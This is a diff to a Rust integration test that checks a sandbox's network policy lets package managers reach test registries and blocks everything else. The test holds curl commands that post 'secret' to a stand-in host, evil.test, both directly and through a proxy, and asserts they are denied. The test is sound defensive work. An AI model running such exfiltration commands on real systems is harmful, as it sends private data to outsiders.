@@ -9,7 +9,7 @@ use belljar_types::SandboxId;
 use serde_json::{Value, json};
 
 use crate::internet;
-use crate::scene::{CLASSES, Scene, Told};
+use crate::scene::{CLASSES, Scene};
 
 const SETTINGS: &str = "[network.sets]\nregistries = [\"python.registry.test\", \"node.registry.test\", \"debian.registry.test\", \"repository.registry.test\", \"cargo.registry.test\"]";
 
@@ -67,11 +67,6 @@ async fn create(scene: &Scene, class: &str, policy: Value) -> SandboxId {
     scene.client.create_sandbox(&request, None).await.unwrap_or_else(|error| panic!("{class}: {error:?}")).id
 }
 
-async fn sh(scene: &Scene, sandbox: &SandboxId, script: &str) -> Told {
-    let script = serde_json::to_string(script).unwrap();
-    scene.python(sandbox, &format!("import subprocess; sys.exit(min(subprocess.run(['bash', '-c', {script}]).returncode, 1))")).await
-}
-
 /// Trusts the internet's authority, as an image of the operator's would, and has a compiler.
 async fn furnish(scene: &Scene, sandbox: &SandboxId, compiler: &Path) {
     let to = format!("{sandbox}:/tmp/rust.tar");
@@ -81,7 +76,7 @@ async fn furnish(scene: &Scene, sandbox: &SandboxId, compiler: &Path) {
          echo '{}' | sudo tee /usr/local/share/ca-certificates/lab.crt >/dev/null; sudo update-ca-certificates >/dev/null 2>&1",
         internet::authority().pem
     );
-    let told = sh(scene, sandbox, &script).await;
+    let told = scene.shell(sandbox, &script).await;
     assert_eq!(told.code, 0, "{told}");
 }
 
@@ -94,7 +89,7 @@ fn package_managers_work_and_nothing_else_does() {
         for class in CLASSES {
             let offline = create(&scene, class, json!("offline")).await;
             for (tool, script, _) in &TOOLS[..4] {
-                assert_ne!(sh(&scene, &offline, script).await.code, 0, "{class}: {tool} without a network");
+                assert_ne!(scene.shell(&offline, script).await.code, 0, "{class}: {tool} without a network");
             }
             assert_eq!(scene.internet.seen(), Vec::<String>::new(), "{class}");
             scene.kill(&offline).await;
@@ -102,16 +97,16 @@ fn package_managers_work_and_nothing_else_does() {
             let sandbox = create(&scene, class, json!("packages")).await;
             furnish(&scene, &sandbox, &compiler).await;
             for (tool, script, says) in TOOLS {
-                let told = sh(&scene, &sandbox, script).await;
+                let told = scene.shell(&sandbox, script).await;
                 assert!(told.code == 0 && told.stdout.trim_end().ends_with(says), "{class}: {tool}: {told}\n{}", scene.server.last_words());
                 let seen = scene.internet.seen();
                 assert!(seen.iter().any(|line| line.contains(".registry.test")), "{class}: {tool}: it was not on the machine: {seen:?}");
             }
             let post = "curl --silent --show-error --max-time 10 --data secret https://evil.test/";
-            let told = sh(&scene, &sandbox, post).await;
+            let told = scene.shell(&sandbox, post).await;
             assert_ne!(told.code, 0, "{class}: {told}");
             let proxied = "curl --verbose --silent --max-time 10 --data secret --proxy http://$(awk '/^nameserver/{print $2; exit}' /etc/resolv.conf):3128 https://evil.test/ 2>&1";
-            let told = sh(&scene, &sandbox, proxied).await;
+            let told = scene.shell(&sandbox, proxied).await;
             assert_ne!(told.code, 0, "{class}: {told}");
             assert!(told.stdout.contains("denied by network.default: no rule is about this destination"), "{class}: {told}");
             assert_eq!(scene.internet.seen(), Vec::<String>::new(), "{class}: nobody outside heard of it");
